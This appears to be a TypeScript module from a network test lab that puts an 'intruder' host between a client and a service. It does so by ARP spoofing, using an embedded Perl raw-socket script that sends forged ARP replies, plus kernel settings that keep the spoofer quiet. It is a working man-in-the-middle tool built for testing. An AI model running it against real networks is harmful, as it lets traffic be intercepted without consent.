import { join } from 'node:path';
import { Failure } from '../model/failure.ts';
import type { RunningProcess } from '../model/handle.ts';
import { ms } from '../model/units.ts';
import { entryUrl } from './entry.ts';
import { addressOf } from './kinds/kind.ts';
import type { Lab } from './lab.ts';
import { onHost } from './lab.ts';
import { must } from './must.ts';
import { expelBatch, intruder, intruderAddress, intruderBatch } from './network.ts';
import { poll } from './poll.ts';

/** Past this his lies end by themselves; the longest wait until they are believed, and for one look. */
const [limitSeconds, believedMs, lookMs] = [30, 6000, 2000];

/**
 * Says every 20 ms to one host alone, as who has an address would to all, that this address is here (ARP, RFC 826: an
 * announcement that a neighbour takes over whatever it knew). The true one may announce itself as well: the last word counts.
 * SIOCGIFINDEX is 0x8933, SIOCGIFHWADDR 0x8927.
 */
const claiming = String.raw`
my ($limit, $address, $whom) = @ARGV;
socket(my $wire, 17, 3, unpack("S", pack("n", 0x0806))) or die "no packet socket: $!\n";
my ($place, $own) = (pack("a16x24", "eth0")) x 2;
ioctl($wire, 0x8933, $place) && ioctl($wire, 0x8927, $own) or die "no eth0: $!\n";
my $mac = unpack("x18a6", $own);
my $dest = pack("H12", $whom =~ tr/://dr);
my $ip = pack("C4", split /\./, $address);
my $frame = $dest . $mac . pack("n n n C C n", 0x0806, 1, 0x0800, 6, 4, 2) . $mac . $ip . $mac . $ip;
my $to = pack("S n l S C C a8", 17, 0x0806, unpack("x16l", $place), 1, 0, 6, $dest);
for (my $until = time + $limit; time < $until; select(undef, undef, undef, 0.02)) { send($wire, $frame, 0, $to) }
`;

/** He answers nobody who asks for the address, and asks nobody in its name: only whom he lies to shall believe him. */
const discreet = 'cd /proc/sys/net/ipv4/conf/all && echo 8 >arp_ignore && echo 2 >arp_announce && exec "$0" -batch -';

/** Somebody between the client and the place that users go to. */
export interface Intruder {
  /** The place whose address he took. */
  readonly address: string;
  /** Its port. */
  readonly port: number;
  /** Takes him away, and lets the client find the true one again. */
  leave(): Promise<void>;
}

/** Puts a host between the client and the entry, as anybody could who is plugged in there. Only the client is lied to. */
export async function intrude(lab: Lab): Promise<Intruder> {
  const { hostname: address, port, protocol } = new URL(entryUrl(lab));
  const { ip } = lab.tools;
  const known = await macOf(lab, lab.spec.client);
  await must(lab, [ip, '-batch', '-'], intruderBatch());
  let lying: RunningProcess | undefined;
  const leave = async (): Promise<void> => {
    lying?.signal('SIGKILL');
    await must(lab, [ip, '-force', '-batch', '-'], expelBatch());
    await must(lab, onHost(lab.spec.client, [ip, 'neighbour', 'flush', 'to', address]));
  };
  try {
    const client = addressOf(lab.addresses, lab.spec.client);
    await must(lab, onHost(intruder, ['bash', '-c', discreet, ip]), ownBatch(address, client, known));
    const argv = onHost(intruder, ['perl', '-e', claiming, '--', String(limitSeconds), address, known]);
    lying = lab.shell.start(argv, { logFile: join(lab.logsDir, 'intruder.log') });
    await believed(lab, address);
    return { address, port: Number(port || (protocol === 'https:' ? 443 : 80)), leave };
  } catch (thrown) {
    await leave().catch(() => undefined);
    throw thrown;
  }
}

/** The address he took is on his loopback device; he knows the client without asking. */
const ownBatch = (address: string, client: string, mac: string): string =>
  [
    'link set dev lo up',
    `address add ${intruderAddress}/24 dev eth0`,
    `address add ${address}/32 dev lo`,
    'link set dev eth0 up',
    `neighbour replace ${client} lladdr ${mac} dev eth0 nud permanent`,
    '',
  ].join('\n');

async function macOf(lab: Lab, host: string): Promise<string> {
  const argv = onHost(host, [lab.tools.ip, '-oneline', 'link', 'show', 'dev', 'eth0']);
  const { stdout } = await lab.shell.run(argv, { timeoutMs: ms(lookMs) });
  return /link\/ether ([0-9a-f:]{17})/.exec(stdout)?.[1] ?? '';
}

/** Waits until the client takes him for the place. It must have asked for it once: only who knows an address can be told another. */
async function believed(lab: Lab, address: string): Promise<void> {
  const { client } = lab.spec;
  const mac = await macOf(lab, intruder);
  const look = async (): Promise<boolean> => {
    const argv = onHost(client, [
      'bash',
      '-c',
      '>/dev/udp/$1/9 echo; exec "$0" neighbour show to $1',
      lab.tools.ip,
      address,
    ]);
    const { stdout } = await lab.shell.run(argv, { timeoutMs: ms(lookMs) });
    return mac !== '' && stdout.includes(mac);
  };
  if (await poll(lab.clock, { everyMs: 50, withinMs: believedMs }, look)) return;
  throw new Failure('command-failed', {
    what: `nobody came between ${client} and ${address}`,
    why: 'the client did not believe who claimed the address; see intruder.log',
  });
}
